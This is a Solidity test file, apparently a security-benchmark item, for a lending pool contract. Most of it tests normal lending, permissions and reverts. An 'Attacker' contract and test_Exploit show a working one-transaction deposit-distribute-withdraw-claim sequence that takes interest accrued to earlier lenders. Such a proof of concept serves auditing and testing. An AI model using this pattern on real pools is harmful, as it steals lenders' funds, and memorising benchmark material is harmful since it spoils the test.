// SPDX-License-Identifier: GPL-2.0-or-later
pragma solidity 0.8.24;

// assay-canary-d9d8eae3-8d08-48ed-b8db-26bd1ad04c1e

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import "./LendingPool.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Dollar is ERC20 {
    constructor() ERC20("Dollar", "USD") {
        _mint(msg.sender, 10_000_000e6);
    }

    function decimals() public pure override returns (uint8) {
        return 6;
    }
}

/// An account with money and no role; all in one transaction.
contract Attacker {
    function visit(LendingPool pool, Dollar dollar) external {
        uint256 amount = dollar.balanceOf(address(this));
        dollar.approve(address(pool), amount);
        pool.deposit(amount);
        pool.distribute();
        pool.withdraw(amount, address(this));
        pool.claim(address(this));
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_766_000_000;
    uint128 private constant RATE = 1_200; // units a second
    uint64 private constant TERM = 120 days;
    address private constant ANNA = address(0xA22A);
    address private constant BELA = address(0xBE1A);
    address private constant BORROWER = address(0xB0440);
    address private constant CURATOR = address(0xC04A704);
    address private constant GUARDIAN = address(0x64A4D);
    address private constant TREASURY = address(0x74EA5);

    Dollar public dollar;
    LendingPool public pool;
    Attacker public visitor;

    function setUp() public {
        vm.warp(START);
        dollar = new Dollar();
        pool = new LendingPool(dollar, TREASURY, 5_000_000e6);
        pool.grantRole(pool.CURATOR(), CURATOR);
        pool.grantRole(pool.GUARDIAN(), GUARDIAN);
        pool.setFee(1_000);
        _join(ANNA, 75_000e6);
        _join(BELA, 25_000e6);
        vm.startPrank(CURATOR);
        pool.setCapacity(100_000e6);
        pool.setBorrower(BORROWER, 120_000e6);
        pool.offerLoan(BORROWER, 100_000e6, RATE, TERM);
        vm.stopPrank();
        vm.prank(ANNA);
        pool.allocate(75_000e6);
        vm.prank(BELA);
        pool.allocate(25_000e6);
        dollar.transfer(BORROWER, 50_000e6);
        vm.startPrank(BORROWER);
        dollar.approve(address(pool), type(uint256).max);
        pool.draw(0);
        vm.stopPrank();

        // Interest of 103.68 a day has run for 60 days.
        vm.warp(START + 60 days);
        visitor = new Attacker();
        dollar.transfer(address(visitor), 1_900_000e6);
    }

    function _join(address lender, uint256 amount) private {
        dollar.transfer(lender, amount);
        vm.startPrank(lender);
        dollar.approve(address(pool), type(uint256).max);
        pool.deposit(amount);
        vm.stopPrank();
    }

    function _offer(uint128 principal, uint128 rate, uint64 term) private returns (uint256) {
        vm.prank(CURATOR);
        return pool.offerLoan(BORROWER, principal, rate, term);
    }

    function test_Regular() public {
        uint256 run = 60 days * uint256(RATE);
        uint256 net = (run * 9) / 10;
        require(pool.accrued() == run && pool.lent() == 100_000e6 && pool.available() == 0, "interest has run");
        require(dollar.balanceOf(BORROWER) == 150_000e6 - 2 * run, "interest of the whole term");
        pool.distribute();
        require(pool.feesDue() == run - net && pool.accrued() == 0, "fee");
        require(pool.claimable(ANNA) <= (net * 3) / 4 && pool.claimable(ANNA) + 10 >= (net * 3) / 4, "three quarters");
        vm.prank(ANNA);
        uint256 amount = pool.claim(address(0xE15E));
        require(dollar.balanceOf(address(0xE15E)) == amount && pool.claimable(ANNA) == 0, "claimed");
        vm.prank(BELA);
        amount = pool.claim(BELA);
        require(amount <= net / 4 && amount + 10 >= net / 4, "one quarter");
        require(pool.collectFees() == run - net && dollar.balanceOf(TREASURY) == run - net, "collected");

        // Thirty days before the end.
        vm.warp(START + 90 days);
        uint256 held = dollar.balanceOf(BORROWER);
        vm.prank(BORROWER);
        pool.repay(0);
        require(dollar.balanceOf(BORROWER) == held - 100_000e6 + 30 days * uint256(RATE), "the rest is returned");
        require(pool.openLoans().length == 0 && pool.debtOf(BORROWER) == 0, "closed");
        vm.startPrank(ANNA);
        pool.release(75_000e6);
        pool.withdraw(75_000e6, ANNA);
        require(dollar.balanceOf(ANNA) == 75_000e6 && pool.depositRoom() == 4_975_000e6, "money is back");
        vm.stopPrank();

        // Only one lender is left; two new loans earn for it alone.
        pool.setTreasury(address(0x74EA6));
        pool.setFee(0);
        require(pool.collectFees() > 0, "to the new treasury");
        _offer(10_000e6, 100, 10 days);
        _offer(15_000e6, 50, 30 days);
        uint256 other = _offer(1e6, 1, 1 days);
        vm.prank(CURATOR);
        pool.cancelOffer(other);
        require(pool.loanCount() == 4 && pool.loan(other).stage == LoanBook.Stage.Cancelled, "offers");
        vm.startPrank(BORROWER);
        pool.draw(1);
        pool.draw(2);
        vm.stopPrank();
        vm.prank(BELA);
        uint256 before = pool.claim(BELA);
        vm.warp(START + 110 days);
        vm.prank(BORROWER);
        pool.repay(1);
        require(pool.openLoans().length == 1 && pool.openLoans()[0] == 2 && pool.lent() == 15_000e6, "one is open");
        pool.distribute();
        vm.startPrank(BELA);
        amount = pool.claim(BELA);
        require(before > 0 && amount <= 10 days * 100 + 20 days * 50 && amount + 10 >= 10 days * 100 + 20 days * 50, "all to one");
        pool.release(10_000e6);
        pool.withdraw(10_000e6, BELA);
        vm.stopPrank();
        vm.warp(START + 130 days);
        vm.prank(BORROWER);
        pool.repay(2);

        pool.setDepositCap(20_000e6);
        require(pool.depositRoom() == 5_000e6 && pool.allocationRoom() == 85_000e6, "rooms");
        vm.prank(CURATOR);
        pool.setCapacity(15_000e6);
        require(pool.allocationRoom() == 0, "full");
        vm.prank(GUARDIAN);
        pool.pause();
        vm.startPrank(BELA);
        pool.release(15_000e6);
        pool.withdraw(15_000e6, BELA);
        pool.claim(BELA);
        vm.stopPrank();
        vm.prank(ANNA);
        pool.claim(ANNA);
        pool.unpause();
        require(dollar.balanceOf(address(pool)) <= 20, "little is left");
        pool.revokeRole(pool.GUARDIAN(), GUARDIAN);
        pool.renounceRole(bytes32(0), address(this));
        require(!pool.hasRole(bytes32(0), address(this)), "no admin");
    }

    function _lacks(address who, bytes32 role) private {
        vm.prank(who);
        vm.expectRevert(abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, who, role));
    }

    function test_RefusesStrangers() public {
        bytes32 curator = pool.CURATOR();
        bytes32 guardian = pool.GUARDIAN();
        uint256 id = _offer(1e6, 1, 1 days);
        _lacks(ANNA, curator);
        pool.setCapacity(1);
        _lacks(ANNA, curator);
        pool.setBorrower(ANNA, 1);
        _lacks(ANNA, curator);
        pool.offerLoan(ANNA, 1, 1, 1);
        _lacks(ANNA, curator);
        pool.cancelOffer(id);
        _lacks(CURATOR, bytes32(0));
        pool.setFee(0);
        _lacks(CURATOR, bytes32(0));
        pool.setTreasury(CURATOR);
        _lacks(CURATOR, bytes32(0));
        pool.setDepositCap(0);
        _lacks(CURATOR, guardian);
        pool.pause();
        vm.prank(GUARDIAN);
        pool.pause();
        _lacks(GUARDIAN, bytes32(0));
        pool.unpause();
    }

    function test_RefusesSettings() public {
        vm.expectRevert(abi.encodeWithSelector(ILendingPool.FeeTooHigh.selector, 2_001, 2_000));
        pool.setFee(2_001);
        vm.expectRevert(ILendingPool.ZeroAddress.selector);
        pool.setTreasury(address(0));
        vm.expectRevert(ILendingPool.ZeroAddress.selector);
        new LendingPool(dollar, address(0), 1);
    }

    function test_RefusesPaused() public {
        uint256 id = _offer(1e6, 1, 1 days);
        vm.prank(CURATOR);
        pool.setCapacity(200_000e6);
        _join(ANNA, 10e6);
        vm.prank(GUARDIAN);
        pool.pause();
        bytes4 why = Pausable.EnforcedPause.selector;
        vm.startPrank(ANNA);
        vm.expectRevert(why);
        pool.deposit(1);
        vm.expectRevert(why);
        pool.allocate(1);
        vm.stopPrank();
        vm.prank(BORROWER);
        vm.expectRevert(why);
        pool.draw(id);
    }

    function test_RefusesLenders() public {
        _join(ANNA, 10e6);
        vm.startPrank(ANNA);
        vm.expectRevert(ILendingPool.ZeroAmount.selector);
        pool.deposit(0);
        vm.expectRevert(abi.encodeWithSelector(ILendingPool.DepositCapReached.selector, 4_900_000e6, 4_899_990e6));
        pool.deposit(4_900_000e6);
        vm.expectRevert(abi.encodeWithSelector(ILendingPool.InsufficientIdle.selector, 10e6 + 1, 10e6));
        pool.withdraw(10e6 + 1, ANNA);
        vm.expectRevert(abi.encodeWithSelector(ILendingPool.InsufficientIdle.selector, 10e6 + 1, 10e6));
        pool.allocate(10e6 + 1);
        vm.expectRevert(abi.encodeWithSelector(ILendingPool.CapacityReached.selector, 10e6, 0));
        pool.allocate(10e6);
        vm.expectRevert(abi.encodeWithSelector(ILendingPool.InsufficientLiquidity.selector, 1, 0));
        pool.release(1);
        vm.expectRevert(abi.encodeWithSelector(ILendingPool.InsufficientAllocated.selector, 75_000e6 + 1, 75_000e6));
        pool.release(75_000e6 + 1);
        vm.stopPrank();
    }

    function test_RefusesOffers() public {
        vm.startPrank(CURATOR);
        vm.expectRevert(abi.encodeWithSelector(LoanBook.BadTerms.selector, 0, 1));
        pool.offerLoan(BORROWER, 0, 1, 1);
        vm.expectRevert(abi.encodeWithSelector(LoanBook.BadTerms.selector, 1, 0));
        pool.offerLoan(BORROWER, 1, 1, 0);
        vm.expectRevert(abi.encodeWithSelector(LoanBook.BadTerms.selector, 1, 730 days + 1));
        pool.offerLoan(BORROWER, 1, 1, 730 days + 1);
        vm.expectRevert(abi.encodeWithSelector(LoanBook.WrongStage.selector, 0, LoanBook.Stage.Open));
        pool.cancelOffer(0);
        vm.stopPrank();
    }

    function test_RefusesBorrowers() public {
        uint256 id = _offer(20_000e6, 1, 1 days);
        vm.expectRevert(abi.encodeWithSelector(LoanBook.NotBorrower.selector, address(this)));
        pool.draw(id);
        vm.expectRevert(abi.encodeWithSelector(LoanBook.NotBorrower.selector, address(this)));
        pool.repay(0);
        vm.startPrank(BORROWER);
        vm.expectRevert(abi.encodeWithSelector(LoanBook.WrongStage.selector, 0, LoanBook.Stage.Open));
        pool.draw(0);
        vm.expectRevert(abi.encodeWithSelector(LoanBook.WrongStage.selector, id, LoanBook.Stage.Offered));
        pool.repay(id);
        vm.expectRevert(abi.encodeWithSelector(ILendingPool.InsufficientLiquidity.selector, 20_000e6, 0));
        pool.draw(id);
        vm.stopPrank();
        vm.prank(CURATOR);
        pool.setBorrower(BORROWER, 120_000e6 - 1);
        vm.startPrank(BORROWER);
        vm.expectRevert(abi.encodeWithSelector(LoanBook.LimitExceeded.selector, 120_000e6, 120_000e6 - 1));
        pool.draw(id);
        vm.warp(START + 67 days + 1);
        vm.expectRevert(abi.encodeWithSelector(LoanBook.OfferExpired.selector, id));
        pool.draw(id);
        vm.stopPrank();
    }

    function test_RefusesManyLoans() public {
        vm.prank(BORROWER);
        pool.repay(0);
        for (uint256 i = 1; i < 18; i++) {
            _offer(1e6, 1, 1 days);
            vm.prank(BORROWER);
            if (i == 17) vm.expectRevert(abi.encodeWithSelector(LoanBook.TooManyLoans.selector, 16));
            pool.draw(i);
        }
    }

    function exploit() public {
        visitor.visit(pool, dollar);
    }

    function test_Exploit() public {
        uint256 before = dollar.balanceOf(address(visitor));
        exploit();
        require(dollar.balanceOf(address(visitor)) >= before + 5_300e6, "no gain");
    }

    function target() public view returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(visitor);
    }
}
